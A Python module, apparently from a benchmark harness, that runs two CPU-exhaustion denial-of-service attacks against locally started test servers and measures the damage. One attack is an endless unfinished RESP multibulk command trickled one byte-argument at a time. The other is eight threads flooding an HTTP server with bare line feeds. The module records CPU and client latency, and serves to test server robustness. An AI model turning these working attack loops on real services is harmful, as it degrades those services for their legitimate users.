"""Attacks 3a and 4: slow, cheap input that makes a server burn CPU (work superlinear in the bytes
received), and what that costs well-behaved clients.
"""
import select
import socket
import threading
import time

from harness import CpuMeter, connect, latency_summary, recv_exact
from memory import resp_command

# ---- 3a. resp_kv: an unfinished command, re-parsed on every read ---------------------------

ARG = b"$1\r\na\r\n"  # one 1-byte argument of a multibulk command that never completes


def _trickle(sock, rate, seconds, stream):
    """Sends `stream` (from its start) at `rate` bytes/s for `seconds`, in small sends about every
    millisecond (each one more read for the server); the bytes sent."""
    sent, t0 = 0, time.monotonic()
    while (elapsed := time.monotonic() - t0) < seconds and sent < len(stream):
        due = min(len(stream), int(rate * elapsed))
        if due > sent:
            sock.sendall(stream[sent:due])
            sent = due
        time.sleep(0.001)
    return sent


class PingProbe:
    """PINGs resp_kv every `gap` s on its own connection until stopped; latencies and failures."""

    def __init__(self, addr, gap=0.05, timeout=2.0):
        self.addr, self.gap, self.timeout = addr, gap, timeout
        self.latencies, self.failures = [], 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        sock = None
        while not self._stop.is_set():
            t0 = time.monotonic()
            try:
                sock = sock or connect(self.addr, timeout=self.timeout)
                sock.sendall(b"PING\r\n")
                if recv_exact(sock, 7) != b"+PONG\r\n":
                    raise OSError("bad reply")
                self.latencies.append(time.monotonic() - t0)
            except OSError:
                self.failures += 1
                if sock:
                    sock.close()
                sock = None
            self._stop.wait(self.gap)
        if sock:
            sock.close()

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join(timeout=self.timeout + 2)
        return False


def resp_trickle(ctx):
    burst_bytes = ctx.pick(6_000_000, 2_000_000)
    seconds = ctx.pick(8.0, 3.0)
    rate = 5000
    args = 1_000_000  # announced; the burst and the trickle together stay well short of it
    stream = ARG * ((burst_bytes + rate * int(seconds + 2)) // len(ARG) + 1)
    with ctx.server("resp_kv") as server:
        with connect(server.addr, timeout=30) as s:
            burst_cpu = CpuMeter(server.pid).start()
            t0 = time.monotonic()
            s.sendall(b"*%d\r\n" % args)
            s.sendall(stream[:burst_bytes])
            burst_secs = time.monotonic() - t0
            time.sleep(1.0)  # the server works through the burst
            burst_pct = burst_cpu.stop()
            meter = CpuMeter(server.pid).start()
            with PingProbe(server.addr) as probe:
                sent = _trickle(s, rate, seconds, stream[burst_bytes:])
            trickle_pct = meter.stop()
        alive = server.alive()
        ping = latency_summary(probe.latencies)
        row = [server.cmdline, round(burst_secs, 2), burst_pct, sent, trickle_pct, meter.wanted_pct, ping["p50_ms"],
               ping["p99_ms"], probe.failures, "yes" if alive else "NO"]
    return {
        "title": f"resp_kv: one connection sends a {burst_bytes / 1e6:g} MB unfinished multibulk command "
        f"(1-byte arguments), then {rate // 1000} KB/s of it for {seconds:g} s",
        "columns": ["server", "burst send s", "CPU% burst + 1 s", "trickle bytes", "CPU% during trickle",
                    "CPU% wanted (run + run-queue wait)", "PING p50 ms", "PING p99 ms", "PING failures", "alive"],
        "rows": [row],
        "notes": ["'wanted' adds the time the server's threads were runnable but waiting for a core: on a "
                  "loaded machine it shows the demand that CPU% (the share it got) hides."],
        "data": dict(zip(["server", "burst_secs", "burst_cpu_pct", "trickle_bytes", "trickle_cpu_pct",
                          "trickle_wanted_pct", "ping_p50_ms", "ping_p99_ms", "ping_failures", "alive"], row)),
    }


# ---- 4. http_hello: leading blank lines ------------------------------------------------------

GET = b"GET / HTTP/1.1\r\nHost: attack\r\n\r\n"


def _get_loop(addr, seconds, gap=0.005, timeout=2.0):
    """Keep-alive GET / every `gap` s for `seconds`; (latencies, failures)."""
    latencies, failures, sock = [], 0, None
    end = time.monotonic() + seconds
    while time.monotonic() < end and len(latencies) + failures < 100_000:
        t0 = time.monotonic()
        try:
            sock = sock or connect(addr, timeout=timeout)
            sock.sendall(GET)
            reply = b""
            while not reply.endswith(b"hello\n"):
                chunk = sock.recv(4096)
                if not chunk:
                    raise OSError("closed")
                reply += chunk
                if len(reply) > 4096:
                    raise OSError("unexpected reply")
            latencies.append(time.monotonic() - t0)
        except OSError:
            failures += 1
            if sock:
                sock.close()
            sock = None
        time.sleep(gap)
    if sock:
        sock.close()
    return latencies, failures


def _blank_lines(addr, rate, seconds, counts):
    """One attacker: bare LFs at `rate` bytes/s in sends every millisecond (each send one more
    read, and one more scan of the head so far, for the server). As soon as the server answers
    (431: head too large) or hangs up, it starts over on a new connection."""
    chunk = b"\n" * max(1, rate // 1000)
    end = time.monotonic() + seconds
    sock = None
    while time.monotonic() < end:
        try:
            if sock is None:
                sock = connect(addr, timeout=1.0)
                counts["conns"] += 1
            sock.sendall(chunk)
            counts["bytes"] += len(chunk)
            if select.select([sock], [], [], 0)[0]:
                raise OSError("answered or closed")  # data or EOF: this connection is done
        except OSError:
            if sock:
                sock.close()
            sock = None
        time.sleep(0.001)
    if sock:
        sock.close()


def http_blank_lines(ctx):
    attackers = 8
    rate = 250_000
    seconds = ctx.pick(5.0, 2.0)
    baseline_secs = ctx.pick(3.0, 1.0)
    with ctx.server("http_hello") as server:
        idle = CpuMeter(server.pid).start()
        base_lat, base_fail = _get_loop(server.addr, baseline_secs)
        base_cpu = idle.stop()
        per = [{"conns": 0, "bytes": 0} for _ in range(attackers)]
        threads = [threading.Thread(target=_blank_lines, args=(server.addr, rate, seconds, c), daemon=True)
                   for c in per]
        meter = CpuMeter(server.pid).start()
        for t in threads:
            t.start()
        lat, fail = _get_loop(server.addr, seconds)
        for t in threads:
            t.join(timeout=5)
        cpu = meter.stop()
        alive = server.alive()
        counts = {k: sum(c[k] for c in per) for k in ("conns", "bytes")}
    b, a = latency_summary(base_lat), latency_summary(lat)
    rows = [
        ["without attack", "–", base_cpu, idle.wanted_pct, len(base_lat), base_fail, b["p50_ms"], b["p99_ms"],
         b["max_ms"]],
        [f"{attackers} × {rate // 1000} KB/s of LF", f'{counts["conns"]} conns, {counts["bytes"] / 1e6:.1f} MB',
         cpu, meter.wanted_pct, len(lat), fail, a["p50_ms"], a["p99_ms"], a["max_ms"]],
    ]
    return {
        "title": f"http_hello: {attackers} connections loop bare line feeds at {rate // 1000} KB/s each for {seconds:g} s; "
        "a keep-alive GET loop (every 5 ms) measures the cost",
        "columns": ["phase", "attack sent", "server CPU%", "CPU% wanted", "GETs ok", "GETs failed", "p50 ms", "p99 ms", "max ms"],
        "rows": rows,
        "notes": [f"server `{server.cmdline}`, alive at the end: {'yes' if alive else 'NO'}"],
        "data": {"baseline": b, "attack": a, "baseline_cpu": base_cpu, "attack_cpu": cpu,
                 "baseline_wanted": idle.wanted_pct, "attack_wanted": meter.wanted_pct, "counts": counts,
                 "failures": [base_fail, fail], "alive": alive},
    }
